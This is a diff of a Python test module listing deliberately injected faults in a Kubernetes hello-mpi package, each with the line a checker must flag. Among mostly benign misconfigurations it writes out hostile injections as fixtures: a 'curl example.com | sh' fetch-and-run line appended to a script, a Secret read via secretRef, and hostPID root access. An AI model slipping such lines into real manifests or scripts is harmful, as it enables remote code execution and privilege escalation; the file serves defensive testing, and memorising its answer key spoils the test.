@@ -1,4 +1,4 @@
-"""The faults: what each one is, how it gets into a good package of hello-mpi, and the line that it stands in."""
+"""The faults of a Pod or an MPIJob: what each is, how it gets into a good hello-mpi, and the line that it stands in."""
 
 from __future__ import annotations
 
@@ -29,6 +29,7 @@ class Fault:
         file: The file that a finding has to point at.
         line: What stands in the line that it has to point at; empty where the file as a whole is meant.
         sealed: Whether the package is sealed with the fault in it.
+        model: The model whose package it is put into.
     """
 
     name: str
@@ -37,10 +38,11 @@ class Fault:
     file: str
     line: str
     sealed: bool = True
+    model: str = "hello-mpi"
 
 
-def _edit(file: str, old: str, new: str) -> Callable[[Path], object]:
-    """Replace the only `old` (the first, when there are more) in `file`."""
+def edit(file: str, old: str, new: str) -> Callable[[Path], object]:
+    """Return what replaces the only `old` (the first, when there are more) in `file`."""
 
     def put_in(package: Path) -> None:
         replace(package / file, old, new)
@@ -48,7 +50,9 @@ def _edit(file: str, old: str, new: str) -> Callable[[Path], object]:
     return put_in
 
 
-def _append(file: str, text: str) -> Callable[[Path], object]:
+def append(file: str, text: str) -> Callable[[Path], object]:
+    """Return what adds `text` at the end of `file`."""
+
     def put_in(package: Path) -> None:
         with (package / file).open("a", encoding="utf-8") as stream:
             stream.write(text)
@@ -68,18 +72,18 @@ def _service(package: Path) -> None:
         "apiVersion: v1\nkind: Service\nmetadata:\n  name: hello-mpi\nspec:\n  ports:\n    - port: 80\n",
         encoding="utf-8",
     )
-    _edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml\n", "  - mpi-job.yaml\n  - service.yaml\n")(package)
+    edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml\n", "  - mpi-job.yaml\n  - service.yaml\n")(package)
 
 
 def _ask_for_gpus(package: Path) -> None:
     """Let the option gpu take one of its patches from elsewhere, and switch it on."""
-    _edit(f"{GPU}/gpu.yaml", "patch: |-\n", "path: https://localhost:1/patch.yaml\n")(package)
+    edit(f"{GPU}/gpu.yaml", "patch: |-\n", "path: https://localhost:1/patch.yaml\n")(package)
     path = package / GPU / "gpu.yaml"
     lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
     end = lines.index("path: https://localhost:1/patch.yaml\n") + 1
     del lines[end : end + 3]
     path.write_text("".join(lines), encoding="utf-8")
-    _edit(
+    edit(
         f"{SINGLE}/kustomization.yaml", "# - ../../../common/mpi/k8s/mlops/gpu", "- ../../../common/mpi/k8s/mlops/gpu"
     )(package)
 
@@ -91,14 +95,14 @@ def _bind(package: Path) -> None:
         "subjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: default\n",
         encoding="utf-8",
     )
-    _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - binding.yaml\n")(package)
+    edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - binding.yaml\n")(package)
 
 
 def _elsewhere(package: Path) -> None:
     (package / SINGLE / "dns.yaml").write_text(
         "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: coredns\n  namespace: kube-system\n", encoding="utf-8"
     )
-    _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - dns.yaml\n")(package)
+    edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - dns.yaml\n")(package)
 
 
 def _second(package: Path) -> None:
@@ -119,7 +123,7 @@ FAULTS = (
     Fault(
         "changed-script",
         "the code is not the code that was sent",
-        _append(f"{BASE}/identity.sh", "curl example.com | sh\n"),
+        append(f"{BASE}/identity.sh", "curl example.com | sh\n"),
         f"{BASE}/identity.sh",
         "",
         sealed=False,
@@ -144,42 +148,42 @@ FAULTS = (
     Fault(
         "missing-resource",
         "nothing renders",
-        _edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml"),
+        edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml"),
         f"{MULTI}/kustomization.yaml",
         "mpijob.yaml",
     ),
     Fault(
         "yaml-syntax",
         "nothing renders",
-        _edit(f"{SINGLE}/pod.yaml", "  restartPolicy: Never", "  restartPolicy: [Never"),
+        edit(f"{SINGLE}/pod.yaml", "  restartPolicy: Never", "  restartPolicy: [Never"),
         f"{SINGLE}/pod.yaml",
         "automountServiceAccountToken",
     ),
     Fault(
         "unknown-kustomize-field",
         "nothing renders",
-        _edit(f"{SINGLE}/kustomization.yaml", "patches:", "patchs:"),
+        edit(f"{SINGLE}/kustomization.yaml", "patches:", "patchs:"),
         f"{SINGLE}/kustomization.yaml",
         "patchs:",
     ),
     Fault(
         "deprecated-field",
         "a later kubectl refuses it",
-        _append(f"{SINGLE}/kustomization.yaml", "commonLabels:\n  team: vision\n"),
+        append(f"{SINGLE}/kustomization.yaml", "commonLabels:\n  team: vision\n"),
         f"{SINGLE}/kustomization.yaml",
         "commonLabels:",
     ),
     Fault(
         "patch-of-nothing",
         "nothing renders",
-        _edit(f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
+        edit(f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
         f"{MULTI}/mlops-job-patch.yaml",
         "name: hello-mpi-multi-node",
     ),
     Fault(
         "replacement-of-nothing",
         "nothing renders",
-        _edit(
+        edit(
             f"{SINGLE}/kustomization.yaml",
             "[name=main].volumeMounts.[name=output]",
             "[name=main].volumeMounts.[name=results]",
@@ -190,14 +194,14 @@ FAULTS = (
     Fault(
         "remote-resource",
         "what is applied comes from a server",
-        _edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml"),
+        edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml"),
         f"{SINGLE}/kustomization.yaml",
         "more.yaml",
     ),
     Fault(
         "remote-openapi",
         "how it renders depends on a server",
-        _append(f"{SINGLE}/kustomization.yaml", "openapi:\n  path: https://localhost:1/schema.json\n"),
+        append(f"{SINGLE}/kustomization.yaml", "openapi:\n  path: https://localhost:1/schema.json\n"),
         f"{SINGLE}/kustomization.yaml",
         "openapi:",
     ),
@@ -211,63 +215,63 @@ FAULTS = (
     Fault(
         "key-of-another-case",
         "kubectl uses a key that a reader overlooks",
-        _edit(f"{SINGLE}/kustomization.yaml", "patches:", "Patches:"),
+        edit(f"{SINGLE}/kustomization.yaml", "patches:", "Patches:"),
         f"{SINGLE}/kustomization.yaml",
         "Patches:",
     ),
     Fault(
         "merged-key",
         "kubectl uses a key that a reader overlooks",
-        _edit(f"{SINGLE}/kustomization.yaml", "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}"),
+        edit(f"{SINGLE}/kustomization.yaml", "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}"),
         f"{SINGLE}/kustomization.yaml",
         "<<: {",
     ),
     Fault(
         "duplicate-env-key",
         "nothing renders",
-        _append(f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
+        append(f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
         f"{MULTI}/mlops.env",
         "DATASET_DIR=/data",
     ),
     Fault(
         "quoted-env-value",
         "the folder's name has quotes in it",
-        _edit(f"{SINGLE}/mlops.env", "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
+        edit(f"{SINGLE}/mlops.env", "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
         f"{SINGLE}/mlops.env",
         'DATASET_DIR="/dataset"',
     ),
     Fault(
         "long-env-line",
         "two variables are lost without a message",
-        _append(f"{SINGLE}/mlops.env", f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n"),
+        append(f"{SINGLE}/mlops.env", f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n"),
         f"{SINGLE}/mlops.env",
         "VOCABULARY=",
     ),
     Fault(
         "exported-env-key",
         "the API server refuses the ConfigMap",
-        _append(f"{SINGLE}/mlops.env", "export EPOCHS=90\n"),
+        append(f"{SINGLE}/mlops.env", "export EPOCHS=90\n"),
         f"{SINGLE}/mlops.env",
         "export EPOCHS",
     ),
     Fault(
         "unknown-field",
         "the field is dropped, or the pod refused",
-        _edit(f"{SINGLE}/pod.yaml", "      workingDir: /", "      workDir: /"),
+        edit(f"{SINGLE}/pod.yaml", "      workingDir: /", "      workDir: /"),
         f"{SINGLE}/pod.yaml",
         "workDir: /",
     ),
     Fault(
         "text-for-a-number",
         "the API server refuses the pod",
-        _edit(f"{SINGLE}/pod-patch.yaml", "runAsUser: 1000", 'runAsUser: "1000"'),
+        edit(f"{SINGLE}/pod-patch.yaml", "runAsUser: 1000", 'runAsUser: "1000"'),
         f"{SINGLE}/pod-patch.yaml",
         'runAsUser: "1000"',
     ),
     Fault(
         "missing-field",
         "the API server refuses the pod",
-        _edit(
+        edit(
             f"{SINGLE}/pod.yaml",
             "        defaultMode: 365 #",
             "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
@@ -278,7 +282,7 @@ FAULTS = (
     Fault(
         "field-of-another-place",
         "the pod's user does not own the files on the volume",
-        _edit(
+        edit(
             f"{MULTI}/mpi-job.yaml",
             "                allowPrivilegeEscalation: false\n",
             "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
@@ -289,21 +293,21 @@ FAULTS = (
     Fault(
         "misspelt-policy",
         "the operator takes it for another policy, without a message",
-        _edit(f"{MULTI}/mpi-job.yaml", "cleanPodPolicy: Running", "cleanPodPolicy: running"),
+        edit(f"{MULTI}/mpi-job.yaml", "cleanPodPolicy: Running", "cleanPodPolicy: running"),
         f"{MULTI}/mpi-job.yaml",
         "cleanPodPolicy: running",
     ),
     Fault(
         "two-launchers",
         "the operator refuses the job, in an event",
-        _edit(f"{MULTI}/mpi-job.yaml", "replicas: 1", "replicas: 2"),
+        edit(f"{MULTI}/mpi-job.yaml", "replicas: 1", "replicas: 2"),
         f"{MULTI}/mpi-job.yaml",
         "replicas: 2",
     ),
     Fault(
         "too-many-processes",
         "mpirun refuses to start",
-        _edit(f"{MULTI}/mpi-job.yaml", "                - all\n", '                - "9"\n'),
+        edit(f"{MULTI}/mpi-job.yaml", "                - all\n", '                - "9"\n'),
         f"{MULTI}/mpi-job.yaml",
         '- "9"',
     ),
@@ -324,21 +328,21 @@ FAULTS = (
     Fault(
         "missing-configmap",
         "the container never starts",
-        _edit(f"{SINGLE}/pod.yaml", "name: hello-mpi-env", "name: hello-mpi-environment"),
+        edit(f"{SINGLE}/pod.yaml", "name: hello-mpi-env", "name: hello-mpi-environment"),
         f"{SINGLE}/pod.yaml",
         "name: hello-mpi-environment",
     ),
     Fault(
         "missing-script",
         "the container ends with 127",
-        _edit(f"{SINGLE}/pod.yaml", "scripts/hello.sh", "scripts/helo.sh"),
+        edit(f"{SINGLE}/pod.yaml", "scripts/hello.sh", "scripts/helo.sh"),
         f"{SINGLE}/pod.yaml",
         "scripts/helo.sh",
     ),
     Fault(
         "missing-volume",
         "the API server refuses the pod; for an MPIJob, only an event says so",
-        _edit(f"{MULTI}/mpi-job.yaml", "            - name: home\n              emptyDir: {}\n", ""),
+        edit(f"{MULTI}/mpi-job.yaml", "            - name: home\n              emptyDir: {}\n", ""),
         f"{MULTI}/mpi-job.yaml",
         "- name: home",
     ),
@@ -346,21 +350,21 @@ FAULTS = (
         "missing-claim",
         "the pod waits forever",
         # The first volume is that of the results.
-        _edit(f"{SINGLE}/pod.yaml", "emptyDir: {}", "persistentVolumeClaim:\n        claimName: results"),
+        edit(f"{SINGLE}/pod.yaml", "emptyDir: {}", "persistentVolumeClaim:\n        claimName: results"),
         f"{SINGLE}/pod.yaml",
         "claimName: results",
     ),
     Fault(
         "image-without-tag",
         "a later pull may get a different image",
-        _edit(f"{SINGLE}/pod.yaml", "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi"),
+        edit(f"{SINGLE}/pod.yaml", "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi"),
         f"{SINGLE}/pod.yaml",
         "image: REGISTRY/mpioperator/mpi-pi",
     ),
     Fault(
         "request-above-limit",
         "the API server refuses the pod",
-        _edit(f"{SINGLE}/pod.yaml", "memory: 16Mi", "memory: 16Gi"),
+        edit(f"{SINGLE}/pod.yaml", "memory: 16Mi", "memory: 16Gi"),
         f"{SINGLE}/pod.yaml",
         "memory: 16Gi",
     ),
@@ -381,7 +385,7 @@ FAULTS = (
     Fault(
         "read-secret",
         "the code can read a Secret that is not meant for it",
-        _edit(
+        edit(
             f"{SINGLE}/pod.yaml",
             "        - configMapRef:\n",
             "        - secretRef:\n            name: database\n        - configMapRef:\n",
@@ -392,7 +396,7 @@ FAULTS = (
     Fault(
         "privileged-edit",
         "the pod has root rights on the node",
-        _append(f"{SINGLE}/pod-patch.yaml", "  hostPID: true\n"),
+        append(f"{SINGLE}/pod-patch.yaml", "  hostPID: true\n"),
         f"{SINGLE}/pod-patch.yaml",
         "hostPID: true",
         sealed=False,
@@ -400,14 +404,14 @@ FAULTS = (
     Fault(
         "hidden-system",
         "the container has no /etc/passwd, and ssh no configuration",
-        _edit(f"{SINGLE}/mlops.env", "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
+        edit(f"{SINGLE}/mlops.env", "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
         f"{SINGLE}/mlops.env",
         "OUTPUT_DIR=/etc",
     ),
     Fault(
         "half-a-device",
         "the API server refuses the pod",
-        _edit(f"{SINGLE}/pod.yaml", "        limits:\n", "        limits:\n          nvidia.com/gpu: 0.5\n"),
+        edit(f"{SINGLE}/pod.yaml", "        limits:\n", "        limits:\n          nvidia.com/gpu: 0.5\n"),
         f"{SINGLE}/pod.yaml",
         "nvidia.com/gpu: 0.5",
     ),
